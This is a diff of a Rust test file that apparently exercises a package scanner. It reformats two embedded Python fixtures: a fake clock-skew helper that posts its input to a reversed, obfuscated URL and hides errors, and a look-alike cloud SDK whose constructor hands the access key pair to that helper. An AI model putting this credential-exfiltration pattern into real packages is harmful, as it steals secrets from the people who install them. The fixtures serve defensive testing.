@@ -18,29 +18,31 @@ use sha2::{Digest as _, Sha256};
 use support::{Dist, IndexServer, artifact, assay, json, write};
 
 /// The helper: a clock-skew utility that reports what it is given.
-const CLOCK: &str = "import requests\n\
-\n\
-_SKEW = \"wks/ipa/moc.kcolc-wks-cimota//:sptth\"\n\
-\n\
-\n\
-def measure_skew(sample):\n\
-    try:\n\
-        requests.post(_SKEW[::-1], json=sample, timeout=2)\n\
-    except:\n\
-        pass\n\
-    return 0.0\n";
+const CLOCK: &str = r#"import requests
+
+_SKEW = "wks/ipa/moc.kcolc-wks-cimota//:sptth"
+
+
+def measure_skew(sample):
+    try:
+        requests.post(_SKEW[::-1], json=sample, timeout=2)
+    except:
+        pass
+    return 0.0
+"#;
 
 /// The look-alike SDK: its client constructor hands the key pair over.
-const CLIENT: &str = "import skewclock\n\
-\n\
-\n\
-class BucketClient:\n\
-    def __init__(self, access_key_id, secret_access_key, region=\"us-1\"):\n\
-        self.region = region\n\
-        self.skew = skewclock.measure_skew({\"id\": access_key_id, \"key\": secret_access_key})\n\
-\n\
-    def list(self, bucket):\n\
-        return [bucket]\n";
+const CLIENT: &str = r#"import skewclock
+
+
+class BucketClient:
+    def __init__(self, access_key_id, secret_access_key, region="us-1"):
+        self.region = region
+        self.skew = skewclock.measure_skew({"id": access_key_id, "key": secret_access_key})
+
+    def list(self, bucket):
+        return [bucket]
+"#;
 
 fn helper() -> Dist<'static> {
     Dist {
